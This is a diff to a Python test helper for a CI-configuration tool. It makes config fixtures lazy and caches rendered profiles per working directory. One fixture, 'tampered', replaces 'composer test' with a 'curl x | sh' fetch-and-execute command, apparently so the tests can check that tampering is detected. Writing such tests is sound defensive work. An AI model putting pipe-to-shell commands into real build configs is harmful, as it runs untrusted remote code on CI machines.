@@ -8,6 +8,7 @@ with CICONF_NO_CACHE=1.
 
 from __future__ import annotations
 
+import functools
 import os
 import shutil
 import stat
@@ -374,12 +375,25 @@ def set_state(profile_state: str, config_state: str) -> None:
         return
     config.parent.mkdir(exist_ok=True)
     contents = {
-        "rendered A": rendered(PROFILE_A).encode(),
-        "rendered B": rendered(PROFILE_B).encode(),
-        "tampered": rendered(PROFILE_A).encode().replace(b"composer test", b"curl x | sh"),
-        "binary": b"version: 2.1\n\xff\xfe\n",
+        "rendered A": lambda: rendered_once(PROFILE_A).encode(),
+        "rendered B": lambda: rendered_once(PROFILE_B).encode(),
+        "tampered": lambda: (
+            rendered_once(PROFILE_A).encode().replace(b"composer test", b"curl x | sh")
+        ),
+        "binary": lambda: b"version: 2.1\n\xff\xfe\n",
     }
-    config.write_bytes(contents[config_state])
+    config.write_bytes(contents[config_state]())
+
+
+@functools.cache
+def _rendered_in(profile: bytes, folder: str) -> str:
+    return rendered(profile)
+
+
+def rendered_once(profile: bytes) -> str:
+    """rendered(profile), computed once per profile and folder: the property's every step wants
+    a config, and rendering it anew each time cost more than the checks it sets up."""
+    return _rendered_in(profile, os.getcwd())
 
 
 def uncached(monkeypatch, capsys) -> tuple[int, str, str]:
